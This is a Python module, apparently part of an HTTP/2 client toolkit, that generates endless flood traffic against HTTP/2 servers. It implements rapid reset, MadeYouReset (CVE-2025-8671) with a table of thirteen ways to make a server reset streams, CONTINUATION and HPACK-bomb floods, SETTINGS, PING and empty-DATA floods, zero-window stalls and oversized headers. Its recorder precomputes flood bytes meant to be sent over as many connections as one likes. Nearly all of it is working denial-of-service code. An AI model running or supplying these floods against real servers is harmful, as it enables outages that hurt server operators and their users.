"""Floods of HTTP/2: functions of a client (h2client.py) that yield what it sends, without an end."""

import itertools
import struct

import hpack
from h2client import H2Client
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame


def resets(c):
    sid = 1
    while True:
        block = b""
        for _ in range(50):
            block += c.raw_head(sid, c.pseudo(path="/reset")) + RstStreamFrame(sid, error_code=8).serialize()
            sid += 2
        yield block


def frame(kind, sid, payload, flags=0):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", sid) + payload


PROVOCATIONS = {  # what makes a server reset a stream that was well begun
    "a window update of nothing": lambda c, sid: c.raw_head(sid, c.pseudo()) + frame(8, sid, bytes(4)),
    "a window too large": lambda c, sid: c.raw_head(sid, c.pseudo()) + frame(8, sid, b"\x7f\xff\xff\xff") * 2,
    "DATA behind the end": lambda c, sid: c.raw_head(sid, c.pseudo()) + frame(0, sid, b"x"),
    "more than its length": lambda c, sid: c.raw_head(sid, c.pseudo("POST") + [("content-length", "1")], end=False) + frame(0, sid, b"xx"),
    "less than its length": lambda c, sid: c.raw_head(sid, c.pseudo("POST") + [("content-length", "3")], end=False) + frame(0, sid, b"xx", 1),
    "a length without a body": lambda c, sid: c.raw_head(sid, c.pseudo("POST") + [("content-length", "3")]),
    "PRIORITY of a wrong size": lambda c, sid: c.raw_head(sid, c.pseudo()) + frame(2, sid, bytes(4)),
    "PRIORITY on itself": lambda c, sid: c.raw_head(sid, c.pseudo()) + frame(2, sid, struct.pack(">IB", sid, 1)),
    "a trailer that goes on": lambda c, sid: c.raw_head(sid, c.pseudo("POST"), end=False) + c.raw_head(sid, [("x", "y")], end=False),
    "a trailer with a path": lambda c, sid: c.raw_head(sid, c.pseudo("POST"), end=False) + c.raw_head(sid, [(":path", "/")]),
    "a field of HTTP/1": lambda c, sid: c.raw_head(sid, c.pseudo() + [("connection", "close")]),
    "a name in capitals": lambda c, sid: c.raw_head(sid, c.pseudo() + [("X", "y")]),
    "no path": lambda c, sid: c.raw_head(sid, c.pseudo()[:3]),
}


def provoked(c, kind="a window update of nothing"):
    """MadeYouReset (CVE-2025-8671)."""
    sid = 1
    while True:
        block = b""
        for _ in range(50):
            block += PROVOCATIONS[kind](c, sid)
            sid += 2
        yield block


def stalled(c):
    """All streams wait for a window that never opens; PINGs say that somebody is there."""
    yield SettingsFrame(0, {4: 0}).serialize() + b"".join(c.raw_head(sid, c.pseudo(path="/big")) for sid in range(1, 200, 2))
    while True:
        yield PingFrame(0, b"12345678").serialize()


def crumbs(c):
    """A cookie in thousands of pieces, each an index into the table."""
    sid = 1
    while True:
        head = c.encoder.encode(c.pseudo(), huffman=False) + c.encoder.encode([("cookie", "a=1")], huffman=False) + b"\xbe" * 15000
        yield HeadersFrame(sid, head, flags=["END_HEADERS", "END_STREAM"]).serialize()
        sid += 2


def megabyte(c):
    """A head of 1 MiB in as many frames as that takes."""
    sid = 1
    while True:
        block = c.encoder.encode(c.pseudo(), huffman=False) + b"".join(b"\x00\x03x-%x\x7f\x81\x7e" % (i % 16) + b"v" * 16384 for i in range(64))
        cuts = [block[at:at + 16000] for at in range(0, len(block), 16000)]
        yield HeadersFrame(sid, cuts[0], flags=["END_STREAM"]).serialize() + b"".join(
            ContinuationFrame(sid, cut, flags=["END_HEADERS"] if cut is cuts[-1] else []).serialize() for cut in cuts[1:])
        sid += 2


def continuations(c):
    yield HeadersFrame(1, c.encoder.encode(c.pseudo())).serialize()
    while True:
        yield ContinuationFrame(1, b"\x00\x01x" + b"\x7f\x80\x7f" + b"v" * 255).serialize() * 20


def bomb(c):
    """One long value in the table, then named thousands of times."""
    sid = 1
    while True:
        block = c.encoder.encode([("x-long", "v" * 3000)], huffman=False)
        index = b"\xbe"
        head = c.encoder.encode(c.pseudo(), huffman=False) + block + index * 12000
        yield HeadersFrame(sid, head, flags=["END_HEADERS", "END_STREAM"]).serialize()
        sid += 2


def empty_data(c):
    yield c.raw_head(1, c.pseudo("POST", "/data"), end=False)
    while True:
        yield DataFrame(1, b"").serialize() * 100


FLOODS = {
    "rapid reset": resets,
    "MadeYouReset": provoked,
    "CONTINUATION": continuations,
    "HPACK bomb": bomb,
    "SETTINGS": lambda c: iter(lambda: SettingsFrame(0, {4: 65535}).serialize() * 100, None),
    "PING": lambda c: iter(lambda: PingFrame(0, b"12345678").serialize() * 100, None),
    "empty DATA": empty_data,
    "zero window": stalled,
    "cookie crumbs": crumbs,
    "heads of 1 MiB": megabyte,
}


class Script(H2Client):
    """A client without a connection: what it would send can be recorded."""

    def __init__(self, authority):
        self.scheme, self.authority, self.encoder = "https", authority, hpack.Encoder()


def recorded(name, authority, size=2_000_000):
    """The first bytes of a flood, to be sent behind the preface on as many connections as one likes."""
    data = bytearray()
    for chunk in itertools.islice(FLOODS[name](Script(authority)), 400):
        data += chunk
        if len(data) >= size:
            break
    return bytes(data)
